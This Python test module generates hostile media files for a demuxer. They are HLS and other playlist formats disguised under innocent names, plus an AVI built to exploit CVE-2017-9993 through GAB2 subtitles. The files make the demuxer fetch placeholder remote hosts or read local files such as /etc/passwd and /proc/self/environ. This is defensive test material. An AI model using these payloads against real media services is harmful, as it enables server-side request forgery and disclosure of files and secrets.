"""HLS and similar: text that a demuxer takes for a video and that names other inputs. All under innocent names."""

import base64
from collections.abc import Iterator

from tests.hostile.case import Case, case, clip
from tests.hostile.media import chunk, ebml, id3

HEAD = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
END = "#EXT-X-ENDLIST\n"
SEGMENTS = {
    "HTTP": "http://<HTTP>/a.ts",
    "TCP": "tcp://<HTTP>",
    "UDP": "udp://127.0.0.1:<UDP>",
    "RTMP": "rtmp://<HTTP>/a/b",
    "RTSP": "rtsp://<HTTP>/a",
    "FTP": "ftp://<HTTP>/a.ts",
    "Gopher": "gopher://<HTTP>/a.ts",
    "HTTP by a cache": "cache:http://<HTTP>/a.ts",
    "HTTP by a thread": "async:http://<HTTP>/a.ts",
    "a neighbour": "../canary.ts",
    "an absolute path": "<KNOWN>/canary.ts",
    "a file's URL": "file://<KNOWN>/canary.ts",
    "a file's protocol": "file:<KNOWN>/canary.mp4",
    "concat": "concat:<KNOWN>/canary.ts|http://<HTTP>/a.ts",
    "subfile": "subfile,,start,0,end,4096,,:<KNOWN>/canary.txt",
    "crypto": "crypto+file:<KNOWN>/canary.ts",
    "a socket of Unix": "unix:<KNOWN>/socket",
    "a pipe": "pipe:0",
    "a device": "/dev/zero",
    "an environment": "/proc/self/environ",
    "passwords": "/etc/passwd",
    "itself": "video",
}


def hls(*segments: str, head: str = HEAD, end: str = END) -> str:
    return head + "".join(f"#EXTINF:10,\n{segment}\n" for segment in segments) + end


def data_uri(content: bytes, kind: str = "video/mp2t") -> str:
    return f"data:{kind};base64,{base64.b64encode(content).decode()}"


def gab2(subtitle: bytes) -> bytes:
    """Return an AVI whose subtitles are this text: sound, and a stream of one packet GAB2 (CVE-2017-9993)."""
    avih = bytes(24) + (2).to_bytes(4, "little") + bytes(28)
    sound = b"auds" + bytes(16) + b"\1\0\0\0" + b"\x40\x1f\0\0" + bytes(8) + bytes(4) + b"\1\0\0\0" + bytes(8)
    form = b"\1\0\1\0\x40\x1f\0\0\x40\x1f\0\0\1\0\x08\0"
    text = b"txts" + bytes(16) + b"\1\0\0\0" + b"\1\0\0\0" + bytes(28)
    streams = [
        chunk(b"LIST", b"strl" + chunk(b"strh", sound) + chunk(b"strf", form)),
        chunk(b"LIST", b"strl" + chunk(b"strh", text) + chunk(b"strf", bytes(40))),
    ]
    title = "t".encode("utf-16-le") + b"\0\0"
    packet = b"GAB2\0\2\0" + len(title).to_bytes(4, "little") + title + b"\4\0"
    packet += len(subtitle).to_bytes(4, "little") + subtitle
    movi = chunk(b"LIST", b"movi" + chunk(b"01tx", packet) + chunk(b"00wb", b"\x80" * 8000))
    return chunk(b"RIFF", b"AVI " + chunk(b"LIST", b"hdrl" + chunk(b"avih", avih) + b"".join(streams)) + movi)


def cases() -> Iterator[Case]:
    for title, target in SEGMENTS.items():
        yield case(f"HLS of {title}", hls(target))
    master = '#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,URI="http://<HTTP>/audio.m3u8"\n'
    master += '#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n'
    yield case("HLS of a playlist by HTTP", master + "http://<HTTP>/inner.m3u8\n")
    yield case("HLS of a playlist beside it", master + "../canary.m3u8\n")
    yield case("HLS of a playlist inside it", lambda _: master + data_uri(hls("a.ts").encode()) + "\n")
    yield case("HLS of itself as its playlist", master + "video\n")
    yield case(
        "HLS with a key by HTTP", HEAD + '#EXT-X-KEY:METHOD=AES-128,URI="http://<HTTP>/key"\n' + hls("a", head="")
    )
    yield case("HLS with a head by HTTP", HEAD + '#EXT-X-MAP:URI="http://<HTTP>/init.mp4"\n' + hls("a", head=""))
    yield case("HLS with a head beside it", HEAD + '#EXT-X-MAP:URI="../canary.mp4"\n' + hls("a", head=""))
    yield case(
        "HLS of text in base64", lambda _: hls(data_uri(b"\x1b[31mtext" * 99, "text/plain"), "<KNOWN>/canary.txt")
    )
    yield case("HLS of sound in base64", lambda _: hls(data_uri(clip("ts"))))
    yield case("HLS without an end", hls("../canary.ts", end=""))
    yield case("HLS of 50,000 segments", hls(*["video"] * 50_000))
    yield case("HLS behind an ID3 tag", lambda canary: id3() + canary.filled(hls("http://<HTTP>/a.ts")).encode())
    yield case(
        "HLS in UTF-16",
        lambda canary: canary.filled(hls("http://<HTTP>/a.ts")).encode("utf-16"),
        "not_a_video",
        "damaged",
    )
    yield case("HLS called .wav", hls("../canary.wav"), name="song.wav")
    yield case("HLS called .m3u8", hls("../canary.ts"), name="list.m3u8")
    yield case(
        "HLS as an AVI's subtitles",
        lambda canary: gab2(canary.filled(hls("http://<HTTP>/a.ts", "<KNOWN>/canary.ts")).encode()),
        "done",
    )
    yield case("subtitles beside an AVI's sound", lambda _: gab2(b"1\n00:00:00,000 --> 00:00:01,000\nhello\n"), "done")
    yield case(
        "HLS as a Matroska's attachment",
        lambda canary: clip("mka") + ebml(0x1941A469, canary.filled(hls("http://<HTTP>/a.ts")).encode()),
        "done",
    )
    yield case("PLS", "[playlist]\nFile1=http://<HTTP>/a.mp3\nFile2=<KNOWN>/canary.mp3\nNumberOfEntries=2\n")
    yield case("M3U of songs", "#EXTM3U\n#EXTINF:5,song\nhttp://<HTTP>/a.mp3\n<KNOWN>/canary.mp3\n", name="song.mp3")
    yield case("XSPF", "<?xml version='1.0'?><playlist version='1' xmlns='http://xspf.org/ns/0/'><trackList><track>"
        "<location>http://<HTTP>/a.mp3</location></track></trackList></playlist>")  # fmt: skip
    yield case("SMIL", "<smil><body><audio src='http://<HTTP>/a.mp3'/><video src='../canary.mp4'/></body></smil>")
    yield case("ASX", "<asx version='3'><entry><ref href='http://<HTTP>/a.wma'/></entry></asx>", name="film.wmv")
    yield case("an ASF redirector", "[Reference]\nRef1=http://<HTTP>/a.asf?MSWMExt=.asf\n", name="film.asf")
    yield case("RAM", "rtsp://<HTTP>/a.rm\n", name="film.rm")
    yield case("QuickTime's RTSPtext", "RTSPtextrtsp://<HTTP>/a.mov\n", name="film.mov")
    yield case(
        "VobSub", "# VobSub index file, v7 (do not modify)\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n"
    )
